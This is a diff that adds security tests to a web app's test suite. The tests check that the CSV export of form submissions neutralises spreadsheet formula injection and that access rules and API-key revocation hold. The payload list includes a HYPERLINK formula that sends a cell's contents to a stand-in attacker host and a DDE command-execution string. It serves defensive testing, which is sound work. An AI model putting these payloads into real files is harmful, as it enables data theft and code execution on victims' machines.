@@ -5,6 +5,8 @@ import type { FastifyInstance } from 'fastify';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DatabaseHandle } from '../db/client';
+import { formSubmissions } from '../db/schema/forms';
+import { createApiKey } from '../modules/api-keys/service';
 import { withoutScripts } from '../modules/spaces/thumbnail';
 import { createTestApp, createTestUser, injectAs } from '../test/app';
 import { openTestDatabase, testDrivers } from '../test/db';
@@ -344,5 +346,107 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
       const res = await app.inject({ method: 'GET', url: bad, headers: { host: 'app.test' } });
       expect(res.statusCode, bad).toBe(404);
     }
+  });
+});
+
+describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 submissions on %s (issue 19)', (driver) => {
+  let database: DatabaseHandle;
+  let app: FastifyInstance;
+  let owner: User;
+  let editor: User;
+  let viewer: User;
+  let stranger: User;
+  let spaceId: string;
+  let otherSpaceId: string;
+
+  beforeAll(async () => {
+    database = await openTestDatabase(driver);
+    app = await createTestApp(database, { PUBLIC_URL: 'https://div.example' });
+    owner = await createTestUser(database, { plan: 'pro' });
+    editor = await createTestUser(database);
+    viewer = await createTestUser(database);
+    stranger = await createTestUser(database, { plan: 'pro' });
+    spaceId = (await injectAs(app, owner, 'POST', '/api/spaces', { name: 'Contacto' })).json().space.id;
+    otherSpaceId = (await injectAs(app, stranger, 'POST', '/api/spaces', { name: 'Ajeno' })).json().space.id;
+    for (const [user, role] of [
+      [editor, 'editor'],
+      [viewer, 'viewer'],
+    ] as const) {
+      const invited = await injectAs(app, owner, 'POST', `/api/spaces/${spaceId}/invitations`, { email: user.email, role });
+      const link = invited.json().link as string;
+      const accepted = await injectAs(app, user, 'POST', `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`);
+      expect(accepted.statusCode, accepted.body).toBe(200);
+    }
+  });
+  afterAll(async () => {
+    await app.close();
+    await database.close();
+  });
+
+  /** What a visitor's form post stores (the public form endpoint keeps the fields as sent). */
+  const received = (space: string, fields: { name: string; value: string }[]) =>
+    database.db.insert(formSubmissions).values({ spaceId: space, formName: 'contacto', page: '/', fields }).returning({ id: formSubmissions.id });
+
+  it('no cell of the CSV export starts a formula, whether the sheet splits on commas, semicolons, tabs or lines', async () => {
+    const payloads = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Pulsa aquí")',
+      '+1+cmd|\' /C calc\'!A0',
+      '-2+3',
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+      '  =1+1',
+      'Hola;=HYPERLINK("https://evil.example";"x")',
+      'Hola;  @SUM(1;2)',
+      'línea uno\n=1+1',
+      'a"b;=1+1',
+      'x\t-3+3',
+    ];
+    await received(spaceId, [
+      ...payloads.map((value, i) => ({ name: `campo${i}`, value })),
+      { name: '=cabecera()', value: 'ok' },
+      { name: 'x;=nombre()', value: 'ok' },
+    ]);
+    const res = await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/export.csv?folder=all`);
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    const text = res.body.replace(/^\uFEFF/, '');
+    // Every piece a spreadsheet could take for a cell, however it splits, read as it would be.
+    for (const piece of text.split(/[,;\t\r\n]/)) {
+      const start = piece.replace(/^\s*"?\s*/, '');
+      expect(start, JSON.stringify(piece)).not.toMatch(/^[=+\-@]/);
+    }
+    // The values are still there for a person to read.
+    expect(text).toContain(`'=HYPERLINK(""https://evil.example/?d=""&A1`);
+  });
+
+  it('the inbox and its export are for editors: viewers 403, other tenants 404, ids of another space 404', async () => {
+    const [mine] = await received(spaceId, [{ name: 'mensaje', value: 'mío' }]);
+    const [theirs] = await received(otherSpaceId, [{ name: 'mensaje', value: 'ajeno' }]);
+    expect((await injectAs(app, viewer, 'GET', `/api/spaces/${spaceId}/submissions`)).statusCode).toBe(403);
+    expect((await injectAs(app, viewer, 'GET', `/api/spaces/${spaceId}/submissions/export.csv`)).statusCode).toBe(403);
+    expect((await injectAs(app, stranger, 'GET', `/api/spaces/${spaceId}/submissions/export.csv`)).statusCode).toBe(404);
+    expect((await injectAs(app, stranger, 'GET', `/api/spaces/${otherSpaceId}/submissions/${mine?.id}`)).statusCode).toBe(404);
+    expect((await injectAs(app, stranger, 'DELETE', `/api/spaces/${otherSpaceId}/submissions/${mine?.id}`)).statusCode).toBe(404);
+    expect((await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/${theirs?.id}`)).statusCode).toBe(404);
+    expect((await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/${mine?.id}`)).statusCode).toBe(200);
+  });
+
+  it("an editor's API key loses the space's submissions the moment the editor is removed", async () => {
+    const { key } = await createApiKey({ db: database.db, userId: editor.id, name: 'integración' });
+    const viaKey = (url: string) => app.inject({ method: 'GET', url, headers: { host: 'app.test', authorization: `Bearer ${key}` } });
+    expect((await viaKey(`/v1/spaces/${spaceId}/submissions`)).statusCode).toBe(200);
+    expect((await viaKey(`/v1/spaces/${otherSpaceId}/submissions`)).statusCode).toBe(404);
+    expect((await injectAs(app, owner, 'DELETE', `/api/spaces/${spaceId}/members/${editor.id}`)).statusCode).toBe(204);
+    expect((await viaKey(`/v1/spaces/${spaceId}/submissions`)).statusCode).toBe(404);
+    // A viewer's key never had them.
+    const viewerKey = (await createApiKey({ db: database.db, userId: viewer.id, name: 'lector' })).key;
+    const res = await app.inject({
+      method: 'GET',
+      url: `/v1/spaces/${spaceId}/submissions`,
+      headers: { host: 'app.test', authorization: `Bearer ${viewerKey}` },
+    });
+    expect(res.statusCode).toBe(403);
   });
 });
